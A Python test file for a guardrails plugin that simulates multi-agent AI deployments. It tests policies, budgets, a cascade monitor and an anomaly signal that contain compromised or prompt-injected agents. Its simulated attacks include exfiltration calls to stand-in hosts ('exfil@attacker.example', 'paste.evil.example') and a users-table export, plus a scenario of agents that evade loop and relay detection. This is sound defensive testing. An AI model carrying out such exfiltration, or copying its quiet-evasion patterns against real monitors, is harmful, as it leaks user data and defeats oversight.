"""Simulation: determinism, sharding, the faults' effects, scenario errors, the reports."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardrails_plugin.simulate import (
    Scenario,
    ScenarioError,
    SimulationReport,
    render_html,
    simulate,
)

ROOT = Path(__file__).resolve().parent.parent
COOKBOOK = ROOT / "cookbook" / "simulation.yaml"

POLICY: dict[str, Any] = {
    "rules": [
        {"id": "search", "allow": "search"},
        {
            "id": "docs",
            "allow": "fetch_url",
            "args": {"url": {"url": {"hosts": ["docs.example.com"]}}},
        },
        {"id": "refunds", "allow": "refund", "args": {"amount": {"number": {"gt": 0, "le": 100}}}},
        {
            "id": "big-refunds",
            "ask": "refund",
            "args": {"amount": {"number": {"gt": 100, "le": 500}}},
        },
        {
            "id": "mail",
            "allow": "send_email",
            "args": {"to": {"email": {"domains": ["example.com"]}}},
        },
        {"id": "no-deletes", "deny": "delete_*"},
    ],
    "budgets": [
        {
            "id": "refund-total",
            "sum": {"arg": "amount", "limit": 300},
            "tools": ["refund"],
            "per": ["thread"],
        }
    ],
    "flows": [
        {
            "id": "web-to-money",
            "sources": ["fetch_url"],
            "sinks": ["refund", "send_email"],
            "effect": "ask",
        }
    ],
}

ATTACKS = [
    {"tool": "send_email", "args": {"to": "exfil@attacker.example"}},
    {"tool": "delete_ticket", "args": {"id": {"range": [1, 999]}}},
]


def scenario_data(
    *,
    seed: int = 1,
    interactions: int = 1_500,
    shards: int = 3,
    triage: int = 3,
    billing: int = 2,
    share: float = 0.3,
    injection: float = 0.1,
    outage: tuple[float, float] | None = (50.0, 80.0),
    handoff: float = 0.6,
) -> dict[str, Any]:
    faults: dict[str, Any] = {
        "compromised": {
            "share": share,
            "onset": [0, 40],
            "misbehave": 0.5,
            "relay": 0.5,
            "loop": 0.3,
        },
        "injection": {"rate": injection, "follow": 0.4, "relay": 0.8},
        "approvers": {"delay": [1, 20], "never": 0.2, "approve": 0.8},
    }
    if outage is not None:
        faults["store_outage"] = {"start": outage[0], "end": outage[1]}
    return {
        "name": "test-desk",
        "seed": seed,
        "interactions": interactions,
        "shards": shards,
        "policy": POLICY,
        "arrivals": 1.0,
        "roles": {
            "triage": {
                "count": triage,
                "entry": 1,
                "think": [0.2, 2],
                "calls": [1, 3],
                "tools": {
                    "search": {"weight": 3, "args": {"q": {"choice": ["a", "b"]}}},
                    "fetch_url": {
                        "untrusted": True,
                        "args": {
                            "url": {
                                "choice": ["https://docs.example.com/x", "https://evil.example/y"],
                                "weights": [9, 1],
                            }
                        },
                    },
                },
                "handoffs": {"billing": handoff / 2, "triage": handoff / 2},
                "attacks": ATTACKS,
            },
            "billing": {
                "count": billing,
                "tools": {
                    "refund": {"side_effect": True, "args": {"amount": {"range": [5, 200]}}},
                    "send_email": {
                        "side_effect": True,
                        "args": {"to": {"choice": ["a@example.com"]}},
                    },
                },
                "handoffs": {"triage": 0.3},
                "attacks": ATTACKS,
            },
        },
        "faults": faults,
    }


def run(data: dict[str, Any], **options: Any) -> SimulationReport:
    return simulate(Scenario.from_dict(data), **options)


def same(a: SimulationReport, b: SimulationReport) -> None:
    assert a.to_json() == b.to_json()


# -- determinism ----------------------------------------------------------------------------------


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.integers(0, 2**32),
    triage=st.integers(1, 4),
    billing=st.integers(1, 3),
    shards=st.integers(1, 3),
    share=st.sampled_from([0.0, 0.3, 1.0]),
    injection=st.sampled_from([0.0, 0.2]),
    interactions=st.integers(1, 600),
)
def test_the_same_seed_gives_the_same_report(
    seed: int,
    triage: int,
    billing: int,
    shards: int,
    share: float,
    injection: float,
    interactions: int,
) -> None:
    data = scenario_data(
        seed=seed,
        triage=triage,
        billing=billing,
        shards=shards,
        share=share,
        injection=injection,
        interactions=interactions,
    )
    a, b = run(data), run(data)
    same(a, b)
    assert a.interactions == interactions  # exactly the interactions asked for
    other = run({**data, "seed": seed + 1})
    if interactions > 200:  # a different seed is a different simulation
        assert other.to_dict()["timeline"] != a.to_dict()["timeline"] or other.runs != a.runs


def test_every_call_is_accounted_for() -> None:
    # conservation: each call ran, was stopped, or is still waiting for a person
    for seed in range(4):
        r = run(scenario_data(seed=seed, interactions=2_000))
        assert r.calls == r.honest_calls + r.harmful_calls
        assert r.honest_calls == r.honest_allowed + r.false_positives + r.pending["honest"]
        assert (
            r.harmful_calls
            == r.let_through + sum(r.harmful_stopped.values()) + r.pending["harmful"]
        )
        events = r.to_dict()["decisions_by_event"]
        assert sum(r.decisions.values()) == r.interactions
        assert (
            events["tool_call"]["allow"] + events["tool_call"]["deny"] + events["tool_call"]["ask"]
            == r.calls
        )
        assert r.messages == sum(events["message"].values())


def test_workers_do_not_change_the_report() -> None:
    data = scenario_data(seed=5, interactions=3_000, shards=4)
    one = run(data)
    two = run(data, workers=2)
    same(one, two)
    assert two.workers == "2 processes"


def test_the_command_gives_byte_identical_reports_across_processes(tmp_path: Path) -> None:
    # different hash seeds in each process: nothing in the report may depend on them
    outs = []
    for i, hashseed in enumerate(("1", "2")):
        out = tmp_path / f"r{i}.json"
        env = {**os.environ, "PYTHONHASHSEED": hashseed}
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "guardrails_plugin.cli",
                "simulate",
                str(COOKBOOK),
                "--interactions",
                "3000",
                "--json",
                str(out),
                "--quiet",
            ],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr
        outs.append(out.read_bytes())
    assert outs[0] == outs[1]
    assert json.loads(outs[0])["interactions"] == 3000


# -- faults -----------------------------------------------------------------------------------------


@settings(max_examples=6, deadline=None)
@given(seed=st.integers(0, 2**32), injection=st.sampled_from([0.0, 0.3]))
def test_no_compromised_agents_and_no_injection_means_no_harmful_call(
    seed: int, injection: float
) -> None:
    r = run(scenario_data(seed=seed, share=0.0, injection=0.0, interactions=800))
    assert r.harmful_calls == 0
    assert r.let_through == 0
    assert r.containment == []
    # with injections only, the harmful calls are the infected agents' and counted so
    r = run(scenario_data(seed=seed, share=0.0, injection=injection, interactions=800))
    assert set(r.harmful_allowed) | set(r.harmful_stopped) <= {
        "injected",
        "policy",
        "budget",
        "cascade",
        "control",
        "store",
        "approval",
    }
    assert "compromised" not in r.harmful_allowed


def test_harmful_calls_out_of_policy_are_stopped_and_in_policy_ones_counted() -> None:
    data = scenario_data(seed=3, share=1.0, injection=0.0, outage=None, interactions=3_000)
    for role in data["roles"].values():
        role["attacks"] = [{"tool": "delete_ticket", "args": {"id": 7}}]  # the policy denies it
    r = run(data)
    assert r.harmful_calls > 50
    assert r.let_through == 0
    assert r.harmful_stopped["policy"] > 0
    # the same attack under a policy that allows it: every one that runs is counted
    data["policy"] = {
        **POLICY,
        "rules": [*POLICY["rules"][:-1], {"id": "deletes", "allow": "delete_*"}],
    }
    r = run(data)
    assert r.let_through > 0
    # compromised agents' own attacks, and those of agents following what they relayed
    assert set(r.harmful_allowed) <= {"compromised", "injected"}
    assert r.harmful_allowed["compromised"] > 0
    assert sum(c.harmful_allowed for c in r.containment) == r.harmful_allowed["compromised"]


def test_a_store_outage_fails_closed() -> None:
    data = scenario_data(seed=2, interactions=4_000, outage=(30.0, 90.0))
    r = run(data)
    o = r.to_dict()["store_outage"]
    assert o["decided"] > 50
    assert o["allowed_tool_calls"] == 0
    assert o["allowed_messages"] == 0
    assert o["denied"] > 0
    assert o["failures"] > 0
    assert r.honest_stopped["store"] > 0
    # without the outage, the same traffic has no store denials at all
    r = run({**data, "faults": {k: v for k, v in data["faults"].items() if k != "store_outage"}})
    assert r.honest_stopped["store"] == 0
    assert r.to_dict()["store_outage"] is None


def test_slow_approvers_delay_and_expire() -> None:
    data = scenario_data(seed=4, interactions=4_000, outage=None)
    data["faults"]["approvers"] = {"delay": [30, 60], "never": 0.5, "approve": 1.0, "timeout": 100}
    r = run(data)
    a = r.to_dict()["approvals"]
    assert a["asked"] > 10
    assert a["expired"] > 0
    assert a["approved"] > 0
    assert a["rejected"] == 0
    assert 30 <= a["mean_wait"] <= 60
    assert r.honest_stopped["approval"] >= a["expired"] - r.harmful_stopped["approval"]


def test_loops_of_compromised_agents_are_contained() -> None:
    data = scenario_data(seed=6, share=0.5, injection=0.0, outage=None, interactions=6_000)
    data["faults"]["compromised"].update({"loop": 1.0, "misbehave": 0.0, "relay": 0.0})
    r = run(data)
    summary = r.containment_summary()
    assert summary["acted"] > 0
    assert summary["contained"] == summary["acted"]
    assert any(k.startswith("cycles:") for k in r.trips)
    for c in r.containment:
        if c.contained:
            assert c.time_to_containment is not None
            assert c.time_to_containment >= 0
            assert c.messages_to_containment is not None
            assert c.messages_to_containment <= c.messages
    # without the monitor nothing is contained
    r = run({**data, "cascade": False})
    assert r.containment_summary()["contained"] == 0
    assert not r.trips


def test_operators_lift_quarantines() -> None:
    data = scenario_data(seed=8, share=0.5, outage=None, interactions=8_000)
    data["breaker"] = {"respond": {"cycles": "quarantine"}}
    data["faults"]["compromised"].update({"loop": 1.0})
    kept = run(data)
    assert kept.to_dict()["quarantines_released"] == 0
    lifted = run({**data, "operators": {"release_after": 60}})
    assert lifted.to_dict()["quarantines_released"] > 0
    # agents back in service: fewer honest calls and messages stopped by quarantines
    assert lifted.messages_held["cascade"] < kept.messages_held["cascade"]


def test_arguments_drawn_from_recorded_traffic(tmp_path: Path) -> None:
    calls = tmp_path / "calls.jsonl"
    calls.write_text(
        "".join(json.dumps({"tool": "lookup", "args": {"id": f"T-{i}"}}) + "\n" for i in range(20))
    )
    policy = {
        "rules": [
            {
                "allow": "lookup",
                "args": {"id": {"one_of": {"values": [f"T-{i}" for i in range(20)]}}},
            }
        ]
    }
    data = {
        "policy": policy,
        "traffic": f"calls:{calls}",
        "interactions": 500,
        "roles": {"w": {"count": 2, "entry": 1, "tools": {"lookup": {"recorded": True}}}},
    }
    r = simulate(Scenario.from_dict(data))
    assert r.calls > 100
    assert r.false_positives == 0
    # a recorded value the policy refuses is drawn too
    calls.write_text(json.dumps({"tool": "lookup", "args": {"id": "X-1"}}) + "\n")
    r = simulate(Scenario.from_dict(data))
    assert r.false_positives == r.honest_calls > 0


# -- scenario errors ---------------------------------------------------------------------------------


BAD: list[tuple[str, Any, str]] = [
    ("roles.triage.tools.search.weight", "x", "roles.triage.tools.search.weight"),
    ("roles.triage.count", 0, "roles.triage.count"),
    ("roles.triage.handoffs", {"nobody": 0.5}, "roles.triage.handoffs.nobody"),
    ("roles.triage.handoffs", {"billing": 0.8, "triage": 0.8}, "roles.triage.handoffs"),
    ("roles.triage.think", [3, 1], "roles.triage.think"),
    ("roles.triage.tools", {}, "roles.triage.tools"),
    ("roles.triage.colour", "red", "roles.triage.colour"),
    ("faults.compromised.share", 1.5, "faults.compromised.share"),
    ("faults.store_outage", {"start": 10, "end": 5}, "faults.store_outage.end"),
    ("faults.approvers.timeout", 0, "faults.approvers.timeout"),
    ("faults.injection.text", "too short", "faults.injection.text"),
    ("breaker.default", "explode", "breaker.default"),
    ("policy", {"rules": [{"allow": "x", "colour": 1}]}, "policy"),
    ("interactions", -3, "interactions"),
    ("shards", 0, "shards"),
    ("intractions", 5, "intractions"),
    ("roles.triage.tools.search.args.q", {"choice": []}, "roles.triage.tools.search.args.q.choice"),
    (
        "roles.triage.tools.search.args.q",
        {"choice": ["a"], "weights": [1, 2]},
        "roles.triage.tools.search.args.q.weights",
    ),
    ("roles.triage.tools.search.recorded", True, "roles.triage.tools.search"),
    ("traffic", "calls:/nonexistent/calls.jsonl", "traffic.from"),
    ("anomaly", "yes", "anomaly"),
    ("anomaly", {"threshold": 2}, "anomaly.warmup_runs"),
    ("anomaly", {"warmup_runs": 0}, "anomaly.warmup_runs"),
    ("anomaly", {"warmup_runs": 2.5}, "anomaly.warmup_runs"),
    ("anomaly", {"warmup_runs": 10, "threshold": 0}, "anomaly.threshold"),
    ("anomaly", {"warmup_runs": 10, "threshold": "high"}, "anomaly.threshold"),
    ("anomaly", {"warmup_runs": 10, "warmups": 10}, "anomaly.warmups"),
]


def _set(data: dict[str, Any], dotted: str, value: Any) -> None:
    *path, last = dotted.split(".")
    for key in path:
        data = data.setdefault(key, {})
    data[last] = value


@pytest.mark.parametrize(("key", "value", "named"), BAD, ids=[b[0] for b in BAD])
def test_a_bad_scenario_is_one_error_naming_the_key(
    tmp_path: Path, key: str, value: Any, named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    import yaml

    from guardrails_plugin.cli import main

    data = scenario_data()
    _set(data, key, value)
    path = tmp_path / "bad.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(ScenarioError) as info:
        Scenario.from_yaml(path)
    assert named in str(info.value)
    assert main(["simulate", str(path), "--quiet"]) == 1  # the command, in this process
    out = capsys.readouterr()
    lines = out.err.strip().splitlines()
    assert len(lines) == 1, out.err
    assert lines[0].startswith("error: ")
    assert named in lines[0]
    assert out.out == ""


@pytest.mark.parametrize(
    "text",
    [
        "roles: [1, 2",
        "- just\n- a list\n",
        "policy: {}\nroles: {a: {tools: {t: {}}}}\n",
        "a: 1\na: 2\n",
    ],
)
def test_unreadable_scenarios_are_one_error(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(text)
    done = subprocess.run(
        [sys.executable, "-m", "guardrails_plugin.cli", "simulate", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("error: ")


# -- the reports -------------------------------------------------------------------------------------


class _Plots(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bars: list[dict[str, str]] = []
        self.plots: dict[str, dict[str, str]] = {}
        self.report = ""
        self._in_report = False
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        for k in ("src", "href"):
            if k in a:
                self.urls.append(a[k])
        if tag == "svg" and "data-plot" in a:
            self.plots[a["data-plot"]] = a
        if tag == "rect" and "data-series" in a:
            self.bars.append(a)
        if tag == "script" and a.get("id") == "report":
            self._in_report = True

    def handle_endtag(self, tag: str) -> None:
        self._in_report = False

    def handle_data(self, data: str) -> None:
        if self._in_report:
            self.report += data


def test_the_html_report_holds_the_reports_numbers(tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "guardrails_plugin.cli",
            "simulate",
            str(COOKBOOK),
            "--interactions",
            "6000",
            "--html",
            str(out),
            "--json",
            str(tmp_path / "r.json"),
            "--quiet",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    report = json.loads((tmp_path / "r.json").read_text())
    page = _Plots()
    page.feed(out.read_text())
    assert page.urls == []  # nothing fetched: self-contained
    assert set(page.plots) == {"decisions", "containment", "blast"}
    # decisions over time: the bars add up to the report's decisions, outcome by outcome
    by_outcome: dict[str, int] = {}
    for bar in page.bars:
        if bar["data-series"] == "decisions":
            by_outcome[bar["data-key"]] = by_outcome.get(bar["data-key"], 0) + int(
                bar["data-count"]
            )
    assert by_outcome == {k: v for k, v in report["decisions"].items() if v}
    # bar heights are drawn to scale
    top = int(page.plots["decisions"]["data-max"])
    for bar in page.bars:
        if bar["data-series"] == "decisions":
            assert float(bar["height"]) == pytest.approx(
                (240 - 80) * int(bar["data-count"]) / top, rel=1e-3
            )
    per_bin: dict[str, int] = {}
    for bar in page.bars:
        if bar["data-series"] == "decisions":
            per_bin[bar["data-bin"]] = per_bin.get(bar["data-bin"], 0) + int(bar["data-count"])
    assert max(per_bin.values()) == top
    points = report["timeline"]["points"]
    assert sorted(per_bin.values()) == sorted(sum(p.values()) for p in points if sum(p.values()))
    # containment and blast radius: one count per compromised agent that acted
    cont = report["containment"]
    assert (
        sum(int(b["data-count"]) for b in page.bars if b["data-series"] == "containment")
        == cont["contained"]
    )
    blast = [int(b["data-count"]) for b in page.bars if b["data-series"] == "blast"]
    assert sum(blast) == cont["acted"]
    sizes = sorted(
        a["blast_agents"] for a in report["compromised_agents"] if a["first_act"] is not None
    )
    assert sizes[-1] == max(int(b["data-bin"]) for b in page.bars if b["data-series"] == "blast")
    # the inlined JSON is the report
    inlined = json.loads(page.report)
    inlined.pop("timing", None)
    assert inlined == report


def test_the_text_summary_and_repr() -> None:
    r = run(scenario_data(interactions=500))
    text = str(r)
    assert "honest calls stopped" in text
    assert "harmful calls let through" in text
    assert "SimulationReport(" in repr(r)
    assert "Scenario(" in repr(Scenario.from_dict(scenario_data()))
    assert "timing" in r.to_dict(timing=True)
    assert "timing" not in r.to_dict()
    page = render_html(r)
    assert page.startswith("<!doctype html>")


def test_the_cookbook_scenario_runs() -> None:
    s = Scenario.from_yaml(COOKBOOK)
    r = simulate(s, interactions=4_000)
    assert r.interactions == 4_000
    assert r.containment
    assert r.harmful_calls > 0
    assert r.honest_calls > r.harmful_calls
    assert r.to_dict()["store_outage"] is not None
    assert Scenario.from_dict(s.to_dict()).to_dict() == s.to_dict()


def test_the_cookbook_anomaly_scenario_runs() -> None:
    s = Scenario.from_yaml(ROOT / "cookbook" / "simulation_anomaly.yaml")
    assert s.anomaly is not None
    assert s.anomaly.warmup_runs == 500
    r = simulate(s.replace(anomaly={"warmup_runs": 50, "threshold": 2}), interactions=3_000)
    an = r.to_dict()["anomaly"]
    assert an["warmup_runs"] == 50 * s.shards
    assert an["compromised_acted"] > 0
    assert not {k for k in r.trips if not k.startswith("anomaly:")}  # nothing else trips
    assert Scenario.from_dict(s.to_dict()).to_dict() == s.to_dict()


@pytest.mark.parametrize(
    "module", ["guardrails_plugin.simulate._scenario", "guardrails_plugin.simulate._run"]
)
def test_docstring_examples_hold(module: str) -> None:
    import doctest
    import importlib

    result = doctest.testmod(importlib.import_module(module))
    assert result.failed == 0
    assert result.attempted >= 1


# -- graph-level fidelity ------------------------------------------------------------------------------


def test_graph_fidelity_runs_through_langgraph_with_the_same_report_shape() -> None:
    data = scenario_data(seed=11, interactions=900, shards=2, outage=(20.0, 60.0))
    graph = run(data, fidelity="graph")
    engine = run(data)
    assert set(graph.to_dict()) == set(engine.to_dict())
    # the adapters were there: guard_node checks the kill switch before each agent step
    assert graph.by_event["model_call"]["allow"] > 0
    assert "model_call" not in engine.by_event
    assert graph.calls > 50
    assert graph.messages > 10
    assert graph.interactions >= 900
    # deterministic too, and faults behave as at engine level
    same(graph, run(data, fidelity="graph"))
    o = graph.to_dict()["store_outage"]
    assert o["decided"] > 0
    assert o["allowed_tool_calls"] == 0
    assert o["allowed_messages"] == 0
    assert graph.honest_calls == graph.honest_allowed + graph.false_positives
    assert graph.harmful_calls == graph.let_through + sum(graph.harmful_stopped.values())
    quiet = run(
        scenario_data(seed=11, share=0.0, injection=0.0, interactions=400), fidelity="graph"
    )
    assert quiet.harmful_calls == 0


# -- progress -------------------------------------------------------------------------------------------


def test_progress_adds_up_to_the_interactions_in_process_and_on_workers() -> None:
    data = scenario_data(seed=9, interactions=5_000, shards=3)
    for workers in (1, 2):
        told: list[int] = []
        r = run(data, workers=workers, progress=told.append)
        assert sum(told) == r.interactions == 5_000
        assert all(n > 0 for n in told)


def test_the_progress_line_without_tqdm_and_without_a_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from guardrails_plugin.simulate import progress_bar

    monkeypatch.setattr(sys.stderr, "isatty", lambda: False)
    bar, close = progress_bar(100)
    assert bar is None  # not a terminal: no bar
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    assert progress_bar(100, quiet=True)[0] is None
    monkeypatch.setitem(sys.modules, "tqdm", None)  # tqdm not installed
    bar, close = progress_bar(100)
    assert bar is not None
    bar(60)
    bar(40)
    close()
    err = capsys.readouterr().err
    assert "100/100 interactions" in err


def test_budget_exhaustion_is_reported_per_budget() -> None:
    data = scenario_data(seed=12, share=0.0, injection=0.0, outage=None, interactions=3_000)
    data["policy"] = {
        **POLICY,
        "budgets": [
            {"id": "searches", "rate": 3, "window": 10, "tools": ["search"]},
            *POLICY["budgets"],
        ],
    }
    r = run(data)
    budgets = r.to_dict()["budgets"]
    assert "searches" in budgets
    assert sum(b["denied"] for b in budgets.values()) == r.honest_stopped["budget"]
    assert budgets["searches"]["first_at"] <= r.simulated_seconds
    loose = run({**data, "policy": POLICY})
    assert "searches" not in loose.to_dict()["budgets"]


def test_graph_fidelity_on_workers_gives_the_same_report() -> None:
    data = scenario_data(seed=13, interactions=400, shards=2)
    same(run(data, fidelity="graph"), run(data, fidelity="graph", workers=2))


# -- the anomaly signal ------------------------------------------------------------------------------


def quiet_exfiltration(
    *, seed: int = 3, share: float = 0.3, anomaly: bool = True, interactions: int = 3_000
) -> dict[str, Any]:
    """Compromised agents that never loop or relay, under a policy that allows everything:
    only their departures from habit (hosts, recipients, tools the role never uses) show."""
    data: dict[str, Any] = {
        "name": "quiet-exfiltration",
        "seed": seed,
        "interactions": interactions,
        "shards": 2,
        "policy": {"rules": [{"allow": "*"}]},
        "roles": {
            "triage": {
                "count": 4,
                "entry": 1,
                "think": [0.2, 2],
                "calls": [2, 5],
                "tools": {
                    "search": {"weight": 3, "args": {"q": {"choice": ["refunds", "shipping"]}}},
                    "fetch_url": {
                        "args": {
                            "url": {
                                "choice": [
                                    "https://docs.example.com/a",
                                    "https://docs.example.com/b",
                                ]
                            }
                        }
                    },
                },
                "handoffs": {"writer": 0.5},
                "attacks": [
                    {"tool": "fetch_url", "args": {"url": "https://paste.evil.example/up"}},
                    {"tool": "send_email", "args": {"to": "drop@attacker.example"}},
                    {"tool": "export_db", "args": {"table": "users"}},
                ],
            },
            "writer": {
                "count": 3,
                "calls": [1, 3],
                "tools": {
                    "send_email": {
                        "args": {"to": {"choice": ["ann@example.com", "bob@example.com"]}}
                    }
                },
                "attacks": [
                    {"tool": "send_email", "args": {"to": "drop@attacker.example"}},
                    {"tool": "fetch_url", "args": {"url": "https://paste.evil.example/up"}},
                ],
            },
        },
        "faults": {
            "compromised": {
                "share": share,
                "onset": [0, 60],
                "misbehave": 0.6,
                "relay": 0.0,
                "loop": 0.0,
            }
        },
    }
    if anomaly:
        data["anomaly"] = {"warmup_runs": 200}
    return data


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.integers(0, 2**32),
    share=st.sampled_from([0.0, 0.3, 1.0]),
    warmup=st.integers(1, 80),
    threshold=st.sampled_from([1.0, 2.5, 3.0]),
)
def test_the_anomaly_signal_keeps_the_report_deterministic_and_exactly_sharded(
    seed: int, share: float, warmup: int, threshold: float
) -> None:
    data = {
        **scenario_data(seed=seed, share=share, interactions=1_200, shards=2),
        "anomaly": {"warmup_runs": warmup, "threshold": threshold},
    }
    a, b = run(data), run(data)
    same(a, b)
    same(a, run(data, workers=2))
    an = a.to_dict()["anomaly"]
    assert an["threshold"] == threshold
    assert an["warmup_runs"] == 2 * warmup  # every shard learns from its own warm-up
    assert an["trips"] == sum(n for k, n in a.trips.items() if k.startswith("anomaly:"))
    assert an["false_alarms"] <= an["trips"]
    assert an["caught"] <= an["compromised_acted"]
    assert an["honest_runs"] <= a.runs
    assert run({k: v for k, v in data.items() if k != "anomaly"}).to_dict()["anomaly"] is None


def test_the_anomaly_signal_catches_agents_that_leave_their_habits() -> None:
    caught = acted = 0
    for seed in (3, 4, 5):
        on = run(quiet_exfiltration(seed=seed))
        an = on.to_dict()["anomaly"]
        acted += an["compromised_acted"]
        caught += an["caught"]
        # nothing else can see them: no loops, no relays, a policy that allows everything
        off = run(quiet_exfiltration(seed=seed, anomaly=False))
        assert off.containment_summary()["contained"] == 0
        assert off.trips == {}
        # what the anomaly signal caught, it contained, and the report says so per agent
        assert an["caught_first"] == an["caught"] == on.containment_summary()["contained"]
        for c in on.to_dict()["compromised_agents"]:
            if c["calls_to_anomaly"] is not None:
                assert c["signal"] == "anomaly"
                assert 1 <= c["calls_to_anomaly"] <= c["calls"]
        assert an["false_alarms"] == on.trip_culprits["honest"]
        assert "anomaly signal" in str(on)
    assert acted > 0
    assert caught >= acted / 3


@settings(max_examples=4, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(seed=st.integers(0, 2**32), warmup=st.sampled_from([5, 50, 200]))
def test_without_compromised_agents_every_anomaly_trip_is_a_false_alarm(
    seed: int, warmup: int
) -> None:
    data = quiet_exfiltration(seed=seed, share=0.0, interactions=2_000)
    data["anomaly"] = {"warmup_runs": warmup}
    r = run(data)
    an = r.to_dict()["anomaly"]
    assert an["compromised_acted"] == an["caught"] == 0
    assert an["honest_runs"] == r.runs  # no compromised agent, no injection: all honest
    assert an["false_alarms"] == an["trips"] == sum(r.trips.values())
    assert an["false_alarms_per_1000_honest_runs"] == round(1000 * an["false_alarms"] / r.runs, 3)
    if warmup >= 50:  # habits learned from enough runs: false alarms are rare
        assert an["false_alarms_per_1000_honest_runs"] <= 20


def test_the_anomaly_signal_needs_the_cascade_monitor() -> None:
    data = {**quiet_exfiltration(), "cascade": False}
    with pytest.raises(ScenarioError, match="anomaly"):
        Scenario.from_dict(data)
